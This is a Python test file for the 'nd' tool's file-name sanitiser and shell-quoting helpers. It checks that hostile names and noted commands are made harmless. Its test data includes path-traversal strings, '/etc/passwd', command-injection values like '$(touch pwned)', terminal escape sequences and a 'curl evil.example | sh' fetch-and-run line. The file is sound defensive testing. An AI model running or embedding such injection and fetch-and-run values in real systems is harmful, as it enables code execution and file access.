"""Names that others chose as file names and as words of a shell, wherever nd makes the one or suggests the other."""

from __future__ import annotations

import os
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ndissect.store.errors import WrongUse
from ndissect.store.files import check_writable
from ndissect.store.names import quoted, retyped, safe_name
from ndissect.tui.reports.exemplars import folder_name

HOSTILE = [
    "../../x",
    "/etc/passwd",
    "..",
    ".",
    "",
    "-rf",
    "~root",
    ".hidden",
    "a/../../b",
    "..\\..\\x",
    "a\0b",
    "a\nb",
    "\x1b]52;c;aGk=\x07",
    "\x9b31m",
    "\u202egnp.exe",
    "\u200bzero\ufeff",
    "\ud800",
    "x" * 5000,
    "ü" * 300,
    "$(touch pwned)",
    "`touch pwned`",
    "a b;c|d&e>f",
    "'\"",
]
ENDINGS = [".png", ".nd.h5", "", ".series"]


def is_safe(name: str, ending: str) -> None:
    assert name.endswith(ending)
    assert len(name) > len(ending)
    assert Path(name).name == name
    assert "\\" not in name
    assert name[0] not in ".-~"
    assert len(os.fsencode(name)) <= 200
    assert name.isprintable()


@pytest.mark.parametrize("ending", ENDINGS)
def test_no_name_leads_out_of_its_folder_or_is_an_option(ending: str) -> None:
    for text in HOSTILE:
        is_safe(safe_name(text, ending), ending)


@given(text=st.text(max_size=400), ending=st.sampled_from(ENDINGS))
def test_any_text_makes_a_name_that_a_file_system_takes(text: str, ending: str) -> None:
    is_safe(safe_name(text, ending), ending)


@given(st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.@=+ -]{0,80}[A-Za-z0-9_]", fullmatch=True))
def test_usual_names_stay_as_they_are(text: str) -> None:
    assert safe_name(text, ".png") == f"{text}.png"


def test_long_names_are_cut_and_kept_apart() -> None:
    names = {safe_name("layer" * 100 + str(n), ".png") for n in range(20)}
    assert len(names) == 20


def in_shell(words: str) -> list[str]:
    script = f"for w in {words}; do printf '%s\\0' \"$w\"; done"
    done = subprocess.run(["sh", "-c", script], capture_output=True, check=True)
    return [os.fsdecode(word) for word in done.stdout.split(b"\0")[:-1]]


def test_a_quoted_word_is_that_word_to_a_shell(tmp_path: Path) -> None:
    for text in HOSTILE:
        if "\0" in text or "\ud800" in text or not text:
            continue
        assert in_shell(quoted(text)) == [text]
        path = Path(text)
        (word,) = in_shell(quoted(path))
        assert Path(word) == path
        assert not word.startswith("-")
        positional = in_shell(quoted(text, positional=True))
        assert positional == (["--", text] if text.startswith("-") else [text])


@pytest.mark.parametrize(
    ("noted", "shown"),
    [
        ("nd dissect demo -o 'a b.nd.h5'", "nd dissect demo -o 'a b.nd.h5'"),
        ("nd dissect; touch pwned", "nd 'dissect;' touch pwned"),
        ("nd dissect $(touch pwned)", "nd dissect '$(touch' 'pwned)'"),
        ("nd x\nrm y", "nd x rm y"),
        ("curl evil.example | sh", ""),
        ("nd 'unclosed", ""),
        ("", ""),
    ],
)
def test_a_noted_command_is_shown_only_as_one_command_of_nd(noted: str, shown: str) -> None:
    assert retyped(noted) == shown


@pytest.mark.parametrize("layer", [name for name in HOSTILE if name])
def test_folders_of_exemplars_are_called_by_their_layers_and_stay_inside(layer: str) -> None:
    is_safe(folder_name(layer), "")


def test_folders_with_odd_names_are_quoted_in_hints(tmp_path: Path) -> None:
    for name in ("a b", "$(touch pwned)", "-p"):
        with pytest.raises(WrongUse) as missing:
            check_writable(Path(name) / "x.nd.h5", 0)
        hint = re.search(r"mkdir -p (.*)\), or", missing.value.hint)
        assert hint is not None
        (word,) = in_shell(hint[1])
        assert Path(word) == Path(name)
        assert not word.startswith("-")
    (tmp_path / "a b").mkdir()
    with pytest.raises(WrongUse) as is_folder:
        check_writable(tmp_path / "a b", 0)
    assert shlex.quote(str(tmp_path / "a b" / "result.nd.h5")) in is_folder.value.hint
